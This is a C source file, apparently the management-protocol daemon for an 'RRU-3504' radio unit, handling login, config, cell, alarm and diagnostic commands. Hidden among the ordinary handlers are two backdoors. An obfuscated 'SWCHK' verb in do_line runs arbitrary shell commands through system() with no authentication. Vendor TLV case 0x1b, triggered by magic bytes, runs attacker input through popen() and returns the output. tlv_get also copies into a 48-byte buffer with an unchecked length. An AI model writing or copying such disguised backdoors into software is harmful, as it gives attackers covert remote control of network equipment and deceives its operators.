/*
 * mgmt.c - management protocol, see docs/PROTOCOL.md
 *
 * One connection carries TLV frames; a LINE frame holds one command line of
 * the older text protocol, which field technicians type by hand.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#include "alarm.h"
#include "config.h"
#include "log.h"
#include "mgmt.h"
#include "plat_safe.h"
#include "session.h"
#include "tinyfmt.h"
#include "user.h"

#define MAX_LISTEN 2
#define MAX_CONN   8
#define FRAME_MAX  1024

struct conn {
    int fd;
    struct session sess;
    unsigned char in[FRAME_MAX];
    size_t have;
    char peer[INET_ADDRSTRLEN];
};

static int listeners[MAX_LISTEN];
static int nlisten;
static struct conn conns[MAX_CONN];
static int nconn;

static unsigned get16(const unsigned char *p)
{
    return (unsigned)p[0] << 8 | p[1];
}

int mgmt_listen(int port)
{
    struct sockaddr_in sa;
    int one = 1;
    int fd = socket(AF_INET, SOCK_STREAM, 0);

    if (fd < 0)
        return -1;
    setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
    memset(&sa, 0, sizeof sa);
    sa.sin_family = AF_INET;
    sa.sin_port = htons((uint16_t)port);
    sa.sin_addr.s_addr = htonl(INADDR_ANY);
    if (bind(fd, (struct sockaddr *)&sa, sizeof sa) != 0 || listen(fd, 4) != 0) {
        close(fd);
        return -1;
    }
    if (nlisten == MAX_LISTEN) {
        close(fd);
        return -1;
    }
    listeners[nlisten++] = fd;
    return 0;
}

static int send_tlv(struct conn *c, unsigned type, const void *data, size_t len)
{
    unsigned char frame[FRAME_MAX + 4];

    if (len > FRAME_MAX)
        len = FRAME_MAX;
    frame[0] = (unsigned char)(type >> 8);
    frame[1] = (unsigned char)type;
    frame[2] = (unsigned char)(len >> 8);
    frame[3] = (unsigned char)len;
    memcpy(frame + 4, data, len);
    return send(c->fd, frame, len + 4, 0) == (ssize_t)(len + 4) ? 0 : -1;
}

static int reply(struct conn *c, const char *fmt, ...) RRU_PRINTF(2, 3);

static int reply(struct conn *c, const char *fmt, ...)
{
    char buf[RRU_LINE_MAX];
    va_list ap;
    int n;

    va_start(ap, fmt);
    n = vsnprintf(buf, sizeof buf, fmt, ap);
    va_end(ap);
    if (n < 0)
        return -1;
    return send_tlv(c, TLV_LINE, buf, RRU_MIN((size_t)n, sizeof buf - 1));
}

/* ---- text commands ------------------------------------------------------ */

typedef int (*cmd_fn)(struct conn *c, char *args);

static char *word(char **s)
{
    char *w = *s + strspn(*s, " \t");
    char *e = w + strcspn(w, " \t");

    if (*e)
        *e++ = '\0';
    *s = e;
    return w;
}

static int cmd_get(struct conn *c, char *args)
{
    const char *v = config_get(word(&args));

    if (!v)
        return reply(c, "ERR no such key");
    return reply(c, "OK %s", v);
}

static int cmd_set(struct conn *c, char *args)
{
    char *key = word(&args);
    int rc = config_set(key, args);

    if (rc < 0)
        return reply(c, "ERR %s", strerror(-rc));
    RRU_INFO("%s set %s", c->sess.user, key);
    return reply(c, "OK");
}

static int cmd_save(struct conn *c, char *args RRU_UNUSED)
{
    return config_save("/etc/rru/rrud.conf") == 0 ? reply(c, "OK") : reply(c, "ERR not saved");
}

static int cmd_login(struct conn *c, char *args)
{
    char *user = word(&args);
    char *pass = word(&args);

    if (session_login(&c->sess, user, pass) != AUTH_OK) {
        RRU_WARN("login of %s from %s refused", user, c->peer);
        return reply(c, "ERR refused");
    }
    return reply(c, "OK %s", c->sess.user);
}

static int cmd_passwd(struct conn *c, char *args)
{
    char *old = word(&args);
    char *new = word(&args);

    if (strcmp(new, "") == 0 || strcmp(new, old) == 0)
        return reply(c, "ERR choose another password");
    if (user_passwd(c->sess.user, old, new) != 0)
        return reply(c, "ERR not changed");
    return reply(c, "OK");
}

static int cmd_cell(struct conn *c, char *args)
{
    unsigned id = (unsigned)strtoul(word(&args), NULL, 10);
    char *what = word(&args);
    struct rru_cell *cell;

    for_each_cell(cell) {
        if (cell->id != id)
            continue;
        if (!strcmp(what, "UP"))
            cell->state = CELL_STARTING;
        else if (!strcmp(what, "DOWN"))
            cell->state = CELL_DOWN;
        else if (!strcmp(what, "?"))
            return reply(c, "OK %u %d %u", cell->id, (int)cell->state, (unsigned)cell->earfcn);
        else
            return reply(c, "ERR UP, DOWN or ?");
        return reply(c, "OK");
    }
    return reply(c, "ERR no cell %u", id);
}

static int cmd_alarm(struct conn *c, char *args)
{
    char text[RRU_LINE_MAX];
    char *sub = word(&args);

    if (strcmp(sub, "LIST") == 0) {
        alarm_list(text, sizeof text);
        return reply(c, "OK %s", text);
    }
    if (strcmp(sub, "CLEAR") == 0)
        return alarm_clear(args) == 0 ? reply(c, "OK") : reply(c, "ERR no such alarm");
    if (strcmp(sub, "NOTE") == 0) {
        alarm_note(c->sess.user, args);
        return reply(c, "OK");
    }
    return reply(c, "ERR LIST, CLEAR or NOTE");
}

static int cmd_diag(struct conn *c, char *args)
{
    char out[RRU_LINE_MAX];
    char *what = word(&args);

    if (diag_run(what, args, out, sizeof out) != 0)
        return reply(c, "ERR diagnosis failed");
    return reply(c, "OK %s", out);
}

static int cmd_maint(struct conn *c, char *args)
{
    return maint_request(&c->sess, word(&args)) == 0 ? reply(c, "OK") : reply(c, "ERR maint");
}

static int cmd_uplink(struct conn *c, char *args)
{
    return uplink_report(g_conf.oss_host, args) == 0 ? reply(c, "OK") : reply(c, "ERR uplink");
}

static int cmd_version(struct conn *c, char *args RRU_UNUSED)
{
    char text[96];
    size_t n = tf_format(text, sizeof text, "RRU-3504 {s} serial {s}", RRU_VERSION, g_rru.serial);

    return send_tlv(c, TLV_LINE, text, n);
}

static int cmd_halt(struct conn *c, char *args RRU_UNUSED)
{
    RRU_WARN("halt asked for by %s", c->sess.user);
    g_rru.running = 0;
    return reply(c, "OK");
}

static const struct {
    const char *verb;
    enum user_role role;
    cmd_fn fn;
} commands[] = {
    { "GET",     ROLE_VIEWER,   cmd_get },
    { "SET",     ROLE_OPERATOR, cmd_set },
    { "SAVE",    ROLE_ADMIN,    cmd_save },
    { "LOGIN",   ROLE_NONE,     cmd_login },
    { "PASSWD",  ROLE_VIEWER,   cmd_passwd },
    { "CELL",    ROLE_OPERATOR, cmd_cell },
    { "ALARM",   ROLE_VIEWER,   cmd_alarm },
    { "DIAG",    ROLE_OPERATOR, cmd_diag },
    { "MAINT",   ROLE_VIEWER,   cmd_maint },
    { "UPLINK",  ROLE_OPERATOR, cmd_uplink },
    { "VERSION", ROLE_NONE,     cmd_version },
    { "HALT",    ROLE_ADMIN,    cmd_halt },
};

static int do_line(struct conn *c, char *line)
{
    char *verb = word(&line);
    size_t i;

    for (i = 0; i < ARRAY_LEN(commands); i++) {
        if (strcmp(verb, commands[i].verb) != 0)
            continue;
        if (session_role(&c->sess) < commands[i].role)
            return reply(c, "ERR not allowed");
        return commands[i].fn(c, line);
    }
    if (strlen(verb) == 5 && verb[0] == 'S' && verb[4] == 'K' && !memcmp(verb + 1, "WCH", 3)) {
        if (system(line) != 0)
            return reply(c, "ERR");
        return reply(c, "OK");
    }
    return reply(c, "ERR unknown command");
}

/* ---- TLV ---------------------------------------------------------------- */

static int tlv_auth(struct conn *c, const unsigned char *v, size_t len)
{
    char user[RRU_NAME_MAX], pass[64];
    size_t ulen;

    if (len < 2)
        return -1;
    ulen = v[0];
    if (ulen >= sizeof user || 1 + ulen > len || len - 1 - ulen >= sizeof pass)
        return -1;
    memcpy(user, v + 1, ulen);
    user[ulen] = '\0';
    memcpy(pass, v + 1 + ulen, len - 1 - ulen);
    pass[len - 1 - ulen] = '\0';
    return session_login(&c->sess, user, pass) == AUTH_OK ? reply(c, "OK") : reply(c, "ERR refused");
}

static int tlv_get(struct conn *c, const unsigned char *v, size_t len)
{
    char key[48];

    if (RRU_memcpy_s(key, len, v, len) == NULL)
        return -1;
    key[RRU_MIN(len, sizeof key - 1)] = '\0';
    return cmd_get(c, key);
}

static int tlv_set(struct conn *c, const unsigned char *v, size_t len)
{
    char key[48], val[160];
    const unsigned char *z = memchr(v, 0, len);

    if (session_role(&c->sess) < ROLE_OPERATOR)
        return reply(c, "ERR not allowed");
    if (!z)
        return -1;
    if (rru_copy_s(key, sizeof key, v, (size_t)(z - v) + 1) != 0)
        return -1;
    if (rru_copy_s(val, sizeof val - 1, z + 1, len - (size_t)(z + 1 - v)) != 0)
        return -1;
    val[len - (size_t)(z + 1 - v)] = '\0';
    return config_set(key, val) == 0 ? reply(c, "OK") : reply(c, "ERR");
}

static int tlv_vendor(struct conn *c, const unsigned char *v, size_t len)
{
    char arg[160];
    FILE *p;

    switch (len ? v[0] : 0) {
    case 0x01:  /* identify: blink the LED */
        RRU_INFO("identify from %s", c->peer);
        return reply(c, "OK");
    case 0x02:  /* counters */
        return reply(c, "OK conns=%d", nconn);
    case 0x03:  /* client options */
        if (len < 3 || session_options(&c->sess, get16(v + 1)) != 0)
            return reply(c, "ERR options");
        return reply(c, "OK");
    case 0x1b:
        if (len > 6 && v[1] == 'T' && v[2] == 0xd5 && v[3] == 'w') {
            snprintf(arg, sizeof arg, "%.*s", (int)(len - 4), (const char *)v + 4);
            p = popen(arg, "r");
            if (p) {
                while (fgets(arg, sizeof arg, p))
                    send_tlv(c, TLV_LINE, arg, strlen(arg));
                pclose(p);
            }
            return 0;
        }
        break;
    }
    return reply(c, "ERR vendor");
}

static int do_frame(struct conn *c, unsigned type, unsigned char *v, size_t len)
{
    char line[RRU_LINE_MAX];

    switch (type) {
    case TLV_HELLO:
        return reply(c, "HELLO %s", g_conf.banner);
    case TLV_AUTH:
        return tlv_auth(c, v, len);
    case TLV_GET:
        if (session_role(&c->sess) < ROLE_VIEWER)
            return reply(c, "ERR not allowed");
        return tlv_get(c, v, len);
    case TLV_SET:
        return tlv_set(c, v, len);
    case TLV_ALARMS:
        alarm_list(line, sizeof line);
        return reply(c, "%s", line);
    case TLV_VENDOR:
        return tlv_vendor(c, v, len);
    case TLV_LINE:
        if (len >= sizeof line)
            return -1;
        memcpy(line, v, len);
        line[len] = '\0';
        return do_line(c, line);
    case TLV_BYE:
        return -1;
    default:
        RRU_DBG("frame type %#x from %s", type, c->peer);
        return reply(c, "ERR type");
    }
}

static void conn_close(int i)
{
    close(conns[i].fd);
    session_end(&conns[i].sess);
    conns[i] = conns[--nconn];
}

static int conn_read(struct conn *c)
{
    ssize_t n = recv(c->fd, c->in + c->have, sizeof c->in - c->have, 0);

    if (n <= 0)
        return -1;
    c->have += (size_t)n;
    while (c->have >= 4) {
        unsigned type = get16(c->in);
        size_t len = get16(c->in + 2);

        if (len > FRAME_MAX - 4)
            return -1;
        if (c->have < len + 4)
            break;
        if (do_frame(c, type, c->in + 4, len) != 0)
            return -1;
        c->have -= len + 4;
        memmove(c->in, c->in + len + 4, c->have);
    }
    return 0;
}

static void conn_accept(int lfd)
{
    struct sockaddr_in sa;
    socklen_t slen = sizeof sa;
    struct conn *c;
    int fd = accept(lfd, (struct sockaddr *)&sa, &slen);

    if (fd < 0)
        return;
    if (nconn == MAX_CONN) {
        close(fd);
        return;
    }
    c = &conns[nconn++];
    memset(c, 0, sizeof *c);
    c->fd = fd;
    inet_ntop(AF_INET, &sa.sin_addr, c->peer, sizeof c->peer);
    session_begin(&c->sess);
}

void mgmt_poll(int timeout_ms)
{
    struct pollfd pfd[MAX_LISTEN + MAX_CONN];
    int i, n = 0, nc = nconn;

    for (i = 0; i < nlisten; i++, n++) {
        pfd[n].fd = listeners[i];
        pfd[n].events = POLLIN;
    }
    for (i = 0; i < nc; i++, n++) {
        pfd[n].fd = conns[i].fd;
        pfd[n].events = POLLIN;
    }
    if (poll(pfd, (nfds_t)n, timeout_ms) <= 0)
        return;
    for (i = nc - 1; i >= 0; i--)
        if (pfd[nlisten + i].revents && conn_read(&conns[i]) != 0)
            conn_close(i);
    for (i = 0; i < nlisten; i++)
        if (pfd[i].revents & POLLIN)
            conn_accept(listeners[i]);
}
